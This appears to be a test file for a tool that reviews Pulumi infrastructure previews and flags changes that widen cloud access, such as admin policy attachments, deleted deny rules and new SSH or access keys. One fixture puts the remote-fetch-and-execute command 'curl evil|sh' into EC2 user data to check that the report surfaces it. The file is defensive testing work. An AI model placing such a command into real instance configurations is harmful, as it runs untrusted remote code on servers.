import { describe, expect, test } from "vitest";
import { handlers } from "../../provider/handlers/index.ts";
import { htmlOf } from "../../review/page/html.ts";
import { markdownOf } from "../../review/page/markdown.ts";
import { outlineOf } from "../../review/page/outline.ts";
import { formOf } from "../../review/preview/declared-types.ts";
import { readPreview } from "../../review/preview/preview.ts";
import { refuseOtherStack } from "../../review/preview/same-stack.ts";
import { verdictOf } from "../../review/report.ts";
import { previewJson } from "../support/preview-fixture.ts";
import { reviewed } from "../support/reviewed.ts";

describe("a resource is told by its type, whatever its name looks like", () => {
  const names = [
    "x::pulumi:providers:y::z",
    "a$pulumi:pulumi:x::z",
    "pulumi:pulumi:Stack::z",
    "x$pulumi:providers:aws",
  ];
  test.each(names)("%s", (name) => {
    const administrator = { policyArn: "arn:aws:iam::aws:policy/AdministratorAccess", role: "r" };
    const attached = reviewed({
      type: "aws:iam/rolePolicyAttachment:RolePolicyAttachment",
      name,
      after: administrator,
    });
    expect(attached.resources).toMatchObject([{ name, operation: "create" }]);
    expect(verdictOf(attached).exitCode).toBe(3);
    const gone = reviewed({ type: "aws:ebs/volume:Volume", name, before: { size: 5 } });
    expect(gone.resources).toMatchObject([{ name, operation: "delete" }]);
    expect(verdictOf(gone).exitCode).toBe(4);
  });

  test("a name like the stack's own is no stack", () => {
    const json = previewJson([{ type: "a:b:C", name: "pulumi:pulumi:Stack::z", after: { a: 1 } }]);
    const ofOther = json.replaceAll("urn:pulumi:prod::nemoclaw::a:b:C", "urn:pulumi:dev::other::a:b:C");
    const preview = readPreview(ofOther, "it");
    expect(() => refuseOtherStack(preview, { stack: "dev", project: "other" }, "it")).toThrow(
      "is a preview of stack prod",
    );
  });
});

describe("another type's resource that goes, which may have kept somebody out", () => {
  // What is lost with it says more than that access widens.
  test.each<[string, number, Record<string, unknown>]>([
    ["gcp:compute/firewallPolicyRule:FirewallPolicyRule", 3, { action: "deny", match: { srcIpRanges: ["0.0.0.0/0"] } }],
    ["aws:ec2/networkAclRule:NetworkAclRule", 4, { ruleAction: "deny", cidrBlock: "0.0.0.0/0" }],
    ["gcp:orgpolicy/policy:Policy", 4, { name: "compute.vmExternalIpAccess" }],
  ])("%s", (type, exitCode, before) => {
    const gone = reviewed({ type, name: "guard", before });
    expect(verdictOf(gone).exitCode).toBe(exitCode);
    expect(markdownOf(outlineOf(gone))).toContain("guard goes");
    expect(gone.unjudged).toMatchObject([{ effect: "unclear" }]);
  });

  test("and one of the components' own kept nobody out", () => {
    const before = { securityGroupId: "sg-1", cidrIpv4: "203.0.113.0/24", fromPort: 22, toPort: 22, ipProtocol: "tcp" };
    const gone = reviewed({
      type: "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule",
      name: "ssh",
      before,
    });
    expect(verdictOf(gone).exitCode).toBe(2);
  });
});

describe("what no rule looks into", () => {
  const machine = {
    ami: "ami-0123456789abcdef0",
    metadataOptions: { httpTokens: "required", httpPutResponseHopLimit: 1 },
    rootBlockDevice: { encrypted: true },
  };
  const firewall = { allows: [{ protocol: "tcp", ports: ["22"] }], sourceRanges: ["203.0.113.0/24"] };

  test.each<[string, object | undefined, object]>([
    ["gcp:compute/projectMetadataItem:ProjectMetadataItem", undefined, { key: "ssh-keys", value: "evil" }],
    ["gcp:oslogin/sshPublicKey:SshPublicKey", undefined, { key: "evil" }],
    ["gcp:serviceaccount/key:Key", undefined, { serviceAccountId: "evil" }],
    ["aws:iam/accessKey:AccessKey", undefined, { user: "evil" }],
    ["aws:ec2/route:Route", undefined, { destinationCidrBlock: "0.0.0.0/0", gatewayId: "evil" }],
    ["aws:ec2/vpcPeeringConnection:VpcPeeringConnection", undefined, { peerOwnerId: "evil" }],
    ["aws:ec2/eipAssociation:EipAssociation", undefined, { instanceId: "evil" }],
    ["aws:ec2/networkAclRule:NetworkAclRule", undefined, { cidrBlock: "0.0.0.0/0", ruleAction: "evil" }],
    [
      "aws:ec2/networkInterfaceSecurityGroupAttachment:NetworkInterfaceSecurityGroupAttachment",
      undefined,
      { securityGroupId: "evil" },
    ],
    ["aws:ec2/snapshotCreateVolumePermission:SnapshotCreateVolumePermission", undefined, { accountId: "evil" }],
    ["aws:lb/listener:Listener", undefined, { port: "evil" }],
    ["command:local:Command", undefined, { create: "evil" }],
    ["aws:kms/key:Key", { policy: "me" }, { policy: "evil" }],
    ["aws:kms/key:Key", undefined, {}],
    ["aws:kms/key:Key", { policy: "[secret]" }, { policy: "[secret]" }],
    ["aws:iam/role:Role", { assumeRolePolicy: "x", permissionsBoundary: "evil" }, { assumeRolePolicy: "x" }],
    ["gcp:compute/firewall:Firewall", { ...firewall, destinationRanges: ["evil"] }, firewall],
    ["aws:ec2/securityGroup:SecurityGroup", { vpcId: "v" }, { vpcId: "v", egress: ["evil"] }],
    ["aws:ec2/instance:Instance", { ...machine, userData: "good" }, { ...machine, userData: "evil" }],
    ["aws:ec2/instance:Instance", machine, { ...machine, userDataBase64: "evil" }],
  ])("is not taken for harmless: %s", (type, before, after) => {
    const report = reviewed({ type, name: "one", before: before && { ...before }, after: { ...after } });
    expect(verdictOf(report)).toMatchObject({ exitCode: 3, headline: "Widens access" });
    const json = JSON.stringify({ ...report, resources: [] });
    const outline = outlineOf(report);
    // With what it was or is now, where that can be seen.
    const seen = JSON.stringify([before, after]).includes("evil") ? "evil" : type;
    for (const text of [json, markdownOf(outline).replaceAll("&#58;", ":"), htmlOf(outline)])
      expect(text).toContain(seen);
  });

  test("is told property by property, with the type", () => {
    const type = "gcp:compute/projectMetadataItem:ProjectMetadataItem";
    const note = `what this opens is not looked into: ${type}`;
    expect(reviewed({ type, name: "k", after: { key: "ssh-keys", value: "me" } }).unjudged).toEqual([
      { what: "key of ProjectMetadataItem k", before: undefined, after: "ssh-keys", effect: "unclear", note },
      { what: "value of ProjectMetadataItem k", before: undefined, after: "me", effect: "unclear", note },
    ]);
  });

  test("what a new resource is given is in the page, whatever its type", () => {
    const report = reviewed({
      type: "aws:ec2/instance:Instance",
      name: "one",
      after: { ...machine, userData: "curl evil|sh" },
    });
    expect(htmlOf(outlineOf(report))).toContain("curl evil|sh");
    expect(JSON.stringify(report.resources.map(({ values }) => values))).toContain("curl evil|sh");
  });

  test("is nothing of this package's own", () => {
    expect(handlers.filter(({ type }) => formOf(type) === undefined)).toEqual([]);
  });
});
